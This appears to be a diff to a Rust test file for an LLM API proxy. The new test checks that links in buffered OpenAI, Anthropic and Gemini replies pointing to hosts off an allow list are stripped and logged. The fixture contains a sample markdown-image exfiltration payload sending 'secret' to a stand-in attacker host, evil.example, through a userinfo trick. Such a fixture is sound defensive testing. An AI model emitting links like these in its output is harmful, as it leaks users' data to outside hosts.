@@ -5,7 +5,7 @@ use std::time::Duration;
 use bytes::Bytes;
 use http_body_util::Full;
 use portcullis_core::{Action, Decision, Glob, Limits, Outcome};
-use portcullis_policy::{Mode, Permission, Profile, SystemPrompt};
+use portcullis_policy::{Links, Mode, Permission, Profile, SystemPrompt};
 use portcullis_proxy::Settings;
 use portcullis_store::NewKey;
 
@@ -660,4 +660,75 @@ async fn words_outside_the_body_are_inspected_too_and_refused_where_they_cannot_
         answer.text()
     );
     assert!(bench.received().is_empty());
+}
+
+/// Where each dialect has the text of a buffered reply.
+fn replies(text: &str) -> [(&'static str, String, String); 3] {
+    let user = serde_json::json!([{"role": "user", "content": "x"}]);
+    [
+        (CHAT, chat("x"), reply(text)),
+        (
+            "/v1/messages",
+            serde_json::json!({"model": "claude-x", "max_tokens": 9, "messages": user}).to_string(),
+            serde_json::json!({"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-x",
+                "content": [{"type": "text", "text": text}], "stop_reason": "end_turn", "stop_sequence": null,
+                "usage": {"input_tokens": 1, "output_tokens": 1}})
+            .to_string(),
+        ),
+        (
+            "/v1beta/models/gemini-x:generateContent",
+            serde_json::json!({"contents": [{"role": "user", "parts": [{"text": "x"}]}]}).to_string(),
+            serde_json::json!({"candidates": [{"index": 0, "finishReason": "STOP",
+                "content": {"role": "model", "parts": [{"text": text}]}}], "modelVersion": "gemini-x", "responseId": "r1"})
+            .to_string(),
+        ),
+    ]
+}
+
+#[tokio::test]
+async fn links_to_other_hosts_are_stripped_and_allowed_ones_pass_byte_for_byte() {
+    let profile = Profile {
+        links: Some(Links {
+            allow: vec![Glob::new("docs.example.com")],
+            ..Links::default()
+        }),
+        ..Profile::default()
+    };
+    let bench = Bench::with(Plan {
+        profile,
+        ..Plan::default()
+    })
+    .await;
+    let fine = "Read [the docs](https://docs.example.com/a?b=c&d=e#f), ![p](https://DOCS.example.com/p.png) and https://docs.example.com.";
+    let wrong = "Hi ![p](https://docs.example.com@evil.example/p?d=secret) <img src=\"//evil.example/x\"> https://evil.example/y!";
+    let left = "Hi ![p] <img > [link]!";
+    for ((path, request, passed), (_, _, bad)) in replies(fine).into_iter().zip(replies(wrong)) {
+        bench.script(Script::json(passed.clone()));
+        let answer = bench.post(path, request.clone()).await;
+        assert_eq!(answer.text(), passed, "{path}");
+        assert_eq!(answer.header("x-portcullis-decision"), "allow", "{path}");
+        bench.script(Script::json(bad.clone()));
+        let answer = bench.post(path, request).await;
+        let quoted = |text: &str| serde_json::to_string(text).unwrap();
+        assert_eq!(
+            answer.text(),
+            bad.replace(&quoted(wrong), &quoted(left)),
+            "{path}"
+        );
+        assert_eq!(answer.header("x-portcullis-decision"), "redact", "{path}");
+        let record = bench.record(&answer).await;
+        let links: Vec<_> = record
+            .findings
+            .iter()
+            .filter(|found| found.rule.ends_with("links.otherwise"))
+            .map(|found| (found.kind.as_str(), found.action))
+            .collect();
+        let kinds = ["link.image", "link.image", "link.bare"];
+        assert_eq!(links, kinds.map(|kind| (kind, Action::Strip)), "{path}");
+        let written = serde_json::to_string(&record).unwrap();
+        assert!(
+            !written.contains("evil"),
+            "a host is the author's text: {written}"
+        );
+    }
 }
